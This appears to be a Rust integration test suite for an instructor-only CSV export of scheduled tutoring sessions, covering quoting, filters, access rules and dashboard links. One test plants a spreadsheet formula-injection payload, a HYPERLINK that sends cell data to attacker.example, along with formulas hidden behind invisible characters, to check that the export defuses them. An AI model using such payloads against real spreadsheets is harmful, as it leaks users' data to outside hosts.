//! The CSV export through the real router: headers, the header row, RFC 4180
//! quoting, formula neutralisation, every filter, the access matrix on the page and in the
//! API, and the links on the dashboard and the history. Runs over the full demo (sessions in
//! every state: dave pending, erin claimed by ann, frank completed, grace cancelled).

use poem::http::StatusCode;
use sensei_http::demo::{ALICE, ANN, DAVE, ERIN, FRANK, GRACE, INSTRUCTOR};

use crate::helpers::{Call, TestApp, API};
use crate::workflow_pages::{full_demo, session_of};

const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Click\")";
const STUDENT_NOTES: &str = "One, two\nand \"three\"";

/// The export's rows (header first) as the `csv` crate reads them back.
fn parse(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The column's index in the header row.
fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0].iter().position(|cell| cell == name).unwrap()
}

/// The students' emails of the export's rows, in order.
fn students(rows: &[Vec<String>]) -> Vec<String> {
    let at = column(rows, "student_email");
    rows[1..].iter().map(|row| row[at].clone()).collect()
}

async fn export_as(app: &TestApp, email: &str, query: &str) -> crate::helpers::Page {
    let browser = app.signed_in(email).await;
    browser.get(&format!("/admin/export.csv{query}")).await
}

#[tokio::test]
async fn an_instructor_downloads_every_session_as_an_rfc_4180_attachment() {
    let app = full_demo().await;
    let page = export_as(&app, INSTRUCTOR, "").await;
    page.assert_status(StatusCode::OK);
    assert_eq!(
        page.content_type.as_deref(),
        Some("text/csv; charset=utf-8")
    );
    assert!(page
        .body
        .starts_with("id,scheduled_at,state,reason,student_id,student_email,"));
    assert!(page.body.ends_with("\r\n"));
    let rows = parse(&page.body);
    assert_eq!(rows[0].len(), 20);
    assert!(rows.iter().all(|row| row.len() == 20));
    assert_eq!(
        rows.len() - 1,
        usize::try_from(app.session_count().await).unwrap()
    );
    let emails = students(&rows);
    for student in [DAVE, ERIN, FRANK, GRACE] {
        assert!(
            emails.iter().any(|email| email == student),
            "{student} in {emails:?}"
        );
    }
    let state = column(&rows, "state");
    let row_of = |email: &str| {
        rows[1..]
            .iter()
            .find(|row| row[column(&rows, "student_email")] == email)
            .unwrap()
            .clone()
    };
    assert_eq!(row_of(DAVE)[state], "pending");
    assert_eq!(row_of(ERIN)[state], "claimed");
    assert_eq!(row_of(ERIN)[column(&rows, "claimed_by_email")], ANN);
    assert_eq!(row_of(FRANK)[state], "completed");
    assert_eq!(row_of(GRACE)[state], "cancelled");
    assert_eq!(
        row_of(GRACE)[column(&rows, "cancel_reason")],
        sensei_http::demo::GRACE_REASON
    );
}

#[tokio::test]
async fn the_download_is_an_attachment_that_is_never_cached() {
    let app = full_demo().await;
    let cookie = app.sign_in_through_api(INSTRUCTOR).await;
    let reply = app
        .send(Call::get("/admin/export.csv").cookie(&cookie))
        .await;
    assert_eq!(reply.status, StatusCode::OK);
    let disposition = reply.header("content-disposition").unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"scheduled-sessions-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert_eq!(reply.header("cache-control"), Some("no-store"));
}

#[tokio::test]
async fn formulas_are_neutralised_and_quotes_commas_and_line_breaks_survive() {
    let app = full_demo().await;
    let dave = session_of(&app, DAVE).await;
    let cookie = app.sign_in_through_api(INSTRUCTOR).await;
    app.send(
        Call::post_json(
            format!("{API}/scheduled-sessions/{dave}/completion"),
            &serde_json::json!({"notes": FORMULA, "student_notes": STUDENT_NOTES}),
        )
        .cookie(&cookie),
    )
    .await
    .expect(StatusCode::OK);
    let page = export_as(&app, INSTRUCTOR, "?state=completed").await;
    page.assert_status(StatusCode::OK);
    // Quoted per RFC 4180: the inner quotes doubled, the line break kept inside the field.
    assert!(page
        .body
        .contains("\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"Click\"\")\""));
    assert!(page.body.contains("\"One, two\nand \"\"three\"\"\""));
    let rows = parse(&page.body);
    let row = rows[1..]
        .iter()
        .find(|row| row[column(&rows, "student_email")] == DAVE)
        .unwrap();
    assert_eq!(row[column(&rows, "notes")], format!("'{FORMULA}"));
    assert_eq!(row[column(&rows, "student_notes")], STUDENT_NOTES);
    assert_eq!(row[column(&rows, "state")], "completed");
}

#[tokio::test]
async fn formulas_behind_invisible_characters_or_a_stored_nul_are_neutralised_too() {
    let app = full_demo().await;
    let dave = session_of(&app, DAVE).await;
    let cookie = app.sign_in_through_api(INSTRUCTOR).await;
    // What a client may send: a byte-order mark, zero-width characters before a formula.
    let notes = "\u{FEFF}=1+1";
    let student_notes = "\u{200B}\u{200C}\u{200D}\u{2060}@SUM(A1)";
    app.send(
        Call::post_json(
            format!("{API}/scheduled-sessions/{dave}/completion"),
            &serde_json::json!({"notes": notes, "student_notes": student_notes}),
        )
        .cookie(&cookie),
    )
    .await
    .expect(StatusCode::OK);
    // What no client may send but the platform may have stored: a NUL before a formula.
    let grace = session_of(&app, GRACE).await;
    app.execute_sql(&format!(
        "UPDATE scheduled_sessions SET cancel_reason = char(0) || '=1+1' WHERE id = {grace}"
    ));
    let page = export_as(&app, INSTRUCTOR, "").await;
    page.assert_status(StatusCode::OK);
    let rows = parse(&page.body);
    let row_of = |email: &str| {
        rows[1..]
            .iter()
            .find(|row| row[column(&rows, "student_email")] == email)
            .unwrap()
            .clone()
    };
    let dave_row = row_of(DAVE);
    assert_eq!(dave_row[column(&rows, "notes")], format!("'{notes}"));
    assert_eq!(
        dave_row[column(&rows, "student_notes")],
        format!("'{student_notes}")
    );
    assert_eq!(
        row_of(GRACE)[column(&rows, "cancel_reason")],
        "'\u{0}=1+1",
        "the NUL is kept, the formula defused"
    );
}

#[tokio::test]
async fn every_filter_narrows_the_export() {
    let app = full_demo().await;
    let sensei = app.signed_in(INSTRUCTOR).await;
    let get = |query: &'static str| {
        let sensei = &sensei;
        async move {
            let page = sensei.get(&format!("/admin/export.csv?{query}")).await;
            page.assert_status(StatusCode::OK);
            students(&parse(&page.body))
        }
    };
    assert_eq!(
        get("state=pending&student=dave").await,
        vec![DAVE.to_owned()]
    );
    assert_eq!(get("state=claimed").await, vec![ERIN.to_owned()]);
    assert_eq!(get("status=claimed").await, vec![ERIN.to_owned()]);
    assert_eq!(get("state=completed").await, vec![FRANK.to_owned()]);
    assert_eq!(get("state=cancelled").await, vec![GRACE.to_owned()]);
    let closed = get("state=closed").await;
    assert_eq!(closed.len(), 2);
    let open = get("state=open").await;
    assert!(open.contains(&DAVE.to_owned()) && open.contains(&ERIN.to_owned()));
    assert!(!open.contains(&FRANK.to_owned()));
    assert_eq!(get("student=FRANK@EXAMPLE").await, vec![FRANK.to_owned()]);
    assert!(get("from=2999-01-01").await.is_empty());
    assert!(get("to=2000-01-01").await.is_empty());
    assert_eq!(
        get("").await.len(),
        get("from=2000-01-01&to=2999-12-31").await.len()
    );
    assert!(get("challenge_id=999999").await.is_empty());
    // The demo's workflow students share one challenge; its id narrows to them.
    let all = parse(&sensei.get("/admin/export.csv?student=dave").await.body);
    let challenge = all[1][column(&all, "challenge_id")].clone();
    let same = get_owned(&sensei, &format!("challenge_id={challenge}")).await;
    assert!(same.contains(&DAVE.to_owned()));
    assert!(!same.contains(&ALICE.to_owned()));
    // The reason filter: every row carries the reason asked for.
    let page = sensei
        .get("/admin/export.csv?reason=needs_work_feedback")
        .await;
    let rows = parse(&page.body);
    let reason = column(&rows, "reason");
    assert!(rows[1..]
        .iter()
        .all(|row| row[reason] == "needs_work_feedback"));
    // claimed_by_me: ann holds erin's session; sensei holds none.
    assert!(get("claimed_by_me=1").await.is_empty());
    let ann = app.signed_in(ANN).await;
    let mine = parse(&ann.get("/admin/export.csv?claimed_by_me=1").await.body);
    assert_eq!(students(&mine), vec![ERIN.to_owned()]);
}

async fn get_owned(browser: &crate::helpers::Browser<'_>, query: &str) -> Vec<String> {
    let page = browser.get(&format!("/admin/export.csv?{query}")).await;
    page.assert_status(StatusCode::OK);
    students(&parse(&page.body))
}

#[tokio::test]
async fn bad_filters_answer_400_naming_the_parameter() {
    let app = full_demo().await;
    let sensei = app.signed_in(INSTRUCTOR).await;
    for (query, name) in [
        ("state=bogus", "state"),
        ("reason=bogus", "reason"),
        ("challenge_id=x", "challenge_id"),
        ("from=28.11.2026", "from"),
        ("claimed_by_me=maybe", "claimed_by_me"),
        ("state=open&status=closed", "status"),
    ] {
        sensei
            .get(&format!("/admin/export.csv?{query}"))
            .await
            .assert_status(StatusCode::BAD_REQUEST)
            .assert_contains(name);
    }
    let cookie = app.sign_in_through_api(INSTRUCTOR).await;
    app.send(Call::get(format!("{API}/scheduled-sessions.csv?state=bogus")).cookie(&cookie))
        .await
        .expect_error(StatusCode::BAD_REQUEST, "bad_request");
}

#[tokio::test]
async fn only_instructors_export_on_the_page_and_in_the_api() {
    let app = full_demo().await;
    // The page: anonymous to /login, a student 403.
    app.browser()
        .get("/admin/export.csv")
        .await
        .assert_redirect("/login");
    export_as(&app, ALICE, "")
        .await
        .assert_status(StatusCode::FORBIDDEN)
        .assert_lacks("student_email");
    // The API: 401 and 403 in its JSON shape, for both addresses.
    let student = app.sign_in_through_api(ALICE).await;
    for path in [
        format!("{API}/scheduled-sessions.csv"),
        format!("{API}/scheduled-sessions"),
    ] {
        app.send(Call::get(path.clone()).header("Accept", "text/csv"))
            .await
            .expect_error(StatusCode::UNAUTHORIZED, "unauthenticated");
        app.send(
            Call::get(path)
                .header("Accept", "text/csv")
                .cookie(&student),
        )
        .await
        .expect_error(StatusCode::FORBIDDEN, "forbidden");
    }
}

#[tokio::test]
async fn the_api_answers_csv_at_its_own_address_and_when_the_list_is_asked_for_csv() {
    let app = full_demo().await;
    let cookie = app.sign_in_through_api(INSTRUCTOR).await;
    let own = app
        .send(Call::get(format!("{API}/scheduled-sessions.csv?state=completed")).cookie(&cookie))
        .await;
    assert_eq!(own.status, StatusCode::OK);
    assert_eq!(own.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(students(&parse(&own.text)), vec![FRANK.to_owned()]);

    let negotiated = app
        .send(
            Call::get(format!("{API}/scheduled-sessions?status=completed"))
                .header("Accept", "text/html;q=0.9, text/csv")
                .cookie(&cookie),
        )
        .await;
    assert_eq!(negotiated.status, StatusCode::OK);
    assert_eq!(
        negotiated.header("content-type"),
        Some("text/csv; charset=utf-8")
    );
    assert_eq!(negotiated.text, own.text);

    // Without text/csv (or with it refused) the list answers JSON as before.
    for accept in ["application/json", "text/csv;q=0"] {
        let json = app
            .send(
                Call::get(format!("{API}/scheduled-sessions?status=completed"))
                    .header("Accept", accept)
                    .cookie(&cookie),
            )
            .await;
        let body = json.expect(StatusCode::OK);
        assert_eq!(body["items"][0]["student_email"], FRANK, "{accept}");
    }
}

#[tokio::test]
async fn the_dashboard_and_the_history_link_the_export_with_their_filters() {
    let app = full_demo().await;
    let sensei = app.signed_in(INSTRUCTOR).await;
    sensei
        .get("/admin?reason=needs_work_feedback&student=da&mine=1")
        .await
        .assert_status(StatusCode::OK)
        .assert_contains(
            "href=\"/admin/export.csv?state=open&#38;reason=needs_work_feedback&#38;\
             student=da&#38;claimed_by_me=1\"",
        );
    sensei
        .get("/admin/history?state=completed&from=2026-01-01")
        .await
        .assert_status(StatusCode::OK)
        .assert_contains("href=\"/admin/export.csv?state=completed&#38;from=2026-01-01\"");
}
